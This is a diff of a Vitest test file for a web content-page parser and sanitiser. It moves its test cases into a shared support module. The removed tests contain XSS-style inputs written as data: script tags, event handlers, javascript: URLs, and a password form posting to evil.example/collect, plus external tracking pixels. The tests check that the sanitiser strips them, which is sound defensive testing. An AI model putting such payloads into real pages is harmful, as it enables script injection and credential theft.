@@ -1,10 +1,7 @@
 import { afterEach, describe, expect, it, vi } from 'vitest';
 import { parseContentPage } from '../../src/content/parse-content-page';
 import { sanitizeRichText } from '../../src/content/sanitize-rich-text';
-
-function page({ head = '', body }: { head?: string; body: string }): string {
-  return `<!doctype html><html lang="en"><head><meta charset="utf-8" />${head}</head><body>${body}</body></html>`;
-}
+import { contentPage, contentPageCases } from '../support/content-page-cases';
 
 function fragment(markup: string): HTMLElement {
   const container = document.createElement('div');
@@ -12,143 +9,13 @@ function fragment(markup: string): HTMLElement {
   return container;
 }
 
+// jsdom has no Sanitizer API: these run DOMPurify's path (Chromium runs both).
 describe('parseContentPage', () => {
-  it('takes the content panel body, the title, the meta description and the nucleus flag', () => {
-    const parsed = parseContentPage(
-      page({
-        head: `<title> Understanding your bill </title>
-          <meta name="description" content="What your {provider} bill means." />
-          <meta name="nucleus-content" content="true" />`,
-        body: `<div class="root"><header>Site chrome</header>
-          <div class="content-panel__body"><h2>Your bill</h2><p>Call {customerServicePhone}.</p></div>
-          <div class="parsys"><p>Not this one</p></div></div>`,
-      }),
-    );
-    expect(parsed.title).toBe('Understanding your bill');
-    expect(parsed.description).toBe('What your Brightwell Energy bill means.');
-    expect(parsed.nucleusContent).toBe(true);
-    const content = fragment(parsed.markup);
-    expect(content.querySelector('h2')?.textContent).toBe('Your bill');
-    expect(content.textContent).toContain('Call 0330 088 0456.');
-    expect(content.textContent).not.toContain('Not this one');
-    expect(content.textContent).not.toContain('Site chrome');
-  });
-
-  it('falls back to the parsys area when there is no content panel body', () => {
-    const parsed = parseContentPage(
-      page({
-        head: '<title>Carbon monoxide</title><meta name="nucleus-content" content="false" />',
-        body: '<div class="aem-Grid"><div class="parsys"><p>From the parsys</p></div></div>',
-      }),
-    );
-    expect(fragment(parsed.markup).textContent).toBe('From the parsys');
-    expect(parsed.nucleusContent).toBe(false);
-  });
-
-  it('gives empty markup, and no nucleus flag, for a page without content', () => {
-    const parsed = parseContentPage(page({ body: '<p>Nothing we know</p>' }));
-    expect(parsed).toEqual({ markup: '', description: '', title: '', nucleusContent: false });
-  });
-
-  it('removes scripts, event handlers, javascript: URLs, frames and styles', () => {
-    const parsed = parseContentPage(
-      page({
-        body: `<div class="content-panel__body">
-          <p>Safe text</p>
-          <script>window.pwned = true</script>
-          <img src="x" onerror="window.pwned = true" alt="broken">
-          <a href="javascript:window.pwned = true">Click me</a>
-          <a href="JaVaScRiPt:alert(1)">Shout</a>
-          <iframe src="https://example.com"></iframe>
-          <svg><script>alert(1)</script></svg>
-          <p onclick="window.pwned = true" style="color:red">Styled</p>
-          <form action="javascript:alert(1)"><button formaction="javascript:alert(1)">Go</button></form>
-        </div>`,
-      }),
-    );
-    const content = fragment(parsed.markup);
-    expect(content.querySelector('script')).toBeNull();
-    expect(content.querySelector('iframe')).toBeNull();
-    expect(parsed.markup).not.toMatch(/onerror|onclick|javascript:|style=/i);
-    const links = [...content.querySelectorAll('a')];
-    expect(links.map((link) => link.textContent)).toEqual(['Click me', 'Shout']);
-    for (const link of links) expect(link.getAttribute('href')).toBeNull();
-    expect(content.textContent).toContain('Safe text');
-  });
-
-  it('removes forms and every form control, keeping a nucleus form slot for the form scripts', () => {
-    const parsed = parseContentPage(
-      page({
-        head: '<meta name="nucleus-content" content="true" />',
-        body: `<div class="content-panel__body">
-          <div class="nucleus-form-slot" data-nucleus-form="warm-home-discount-eligibility"></div>
-          <form class="nucleus-form" action="https://evil.example/collect" method="post">
-            <fieldset><legend>Your account</legend>
-              <label for="password">Password</label>
-              <input type="password" id="password" name="password" />
-              <input type="image" src="/images/go.png" alt="Go" />
-              <select name="bank"><option value="x">Bank</option></select>
-              <textarea name="notes">Notes</textarea>
-            </fieldset>
-            <button type="submit" formaction="https://evil.example/">Log in</button>
-          </form>
-          <p>After the form</p>
-        </div>`,
-      }),
-    );
-    const content = fragment(parsed.markup);
-    for (const tag of ['form', 'input', 'button', 'select', 'option', 'textarea']) {
-      expect(content.querySelector(tag), tag).toBeNull();
-    }
-    expect(parsed.markup).not.toContain('evil.example');
-    const slot = content.querySelector('[data-nucleus-form]');
-    expect(slot?.getAttribute('data-nucleus-form')).toBe('warm-home-discount-eligibility');
-    expect(slot?.className).toBe('nucleus-form-slot');
-    expect(content.textContent).toContain('After the form');
-    expect(parsed.nucleusContent).toBe(true);
-  });
-
-  it('keeps images of this site only, and no srcset anywhere', () => {
-    const origin = window.location.origin;
-    const parsed = parseContentPage(
-      page({
-        body: `<div class="content-panel__body">
-          <img src="/images/relative-root.svg" alt="root" />
-          <img src="images/relative.svg" alt="relative" />
-          <img src="${origin}/images/absolute.svg" alt="absolute" srcset="https://evil.example/big.png 2x" />
-          <img src="https://evil.example/pixel.png" alt="external" />
-          <img src="//evil.example/pixel.png" alt="protocol-relative" />
-          <img src="  HTTPS://EVIL.EXAMPLE/pixel.png" alt="shouting" />
-          <img src="${origin}.evil.example/pixel.png" alt="lookalike" />
-          <img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" alt="data" />
-          <img alt="no source" />
-          <picture><source srcset="https://evil.example/a.webp" type="image/webp" /><img src="/images/p.png" alt="picture" /></picture>
-          <table background="https://evil.example/bg.png"><tr><td>Cell</td></tr></table>
-        </div>`,
-      }),
-    );
-    const content = fragment(parsed.markup);
-    expect([...content.querySelectorAll('img')].map((image) => image.getAttribute('alt'))).toEqual([
-      'root',
-      'relative',
-      'absolute',
-      'picture',
-    ]);
-    expect(content.querySelector('[srcset]')).toBeNull();
-    expect(parsed.markup).not.toMatch(/srcset|evil\.example|background=/i);
-    expect(content.textContent).toContain('Cell');
-  });
-
-  it('fills phone placeholders and keeps tel: links free of spaces', () => {
-    const parsed = parseContentPage(
-      page({
-        body: '<div class="content-panel__body"><a href="tel:{gasEmergencyPhone}">{gasEmergencyPhone}</a></div>',
-      }),
-    );
-    const link = fragment(parsed.markup).querySelector('a');
-    expect(link?.getAttribute('href')).toBe('tel:0800111999');
-    expect(link?.textContent).toBe('0800 111 999');
-  });
+  for (const { name, html, check } of contentPageCases(window.location.origin)) {
+    it(name, async () => {
+      check(await parseContentPage(html), fragment);
+    });
+  }
 });
 
 describe('placeholders are filled before sanitising', () => {
@@ -163,7 +30,7 @@ describe('placeholders are filled before sanitising', () => {
     vi.resetModules();
     const module = await import('../../src/content/parse-content-page');
     return module.parseContentPage(
-      page({ body: `<div class="content-panel__body">${body}</div>` }),
+      contentPage({ body: `<div class="content-panel__body">${body}</div>` }),
     );
   }
 
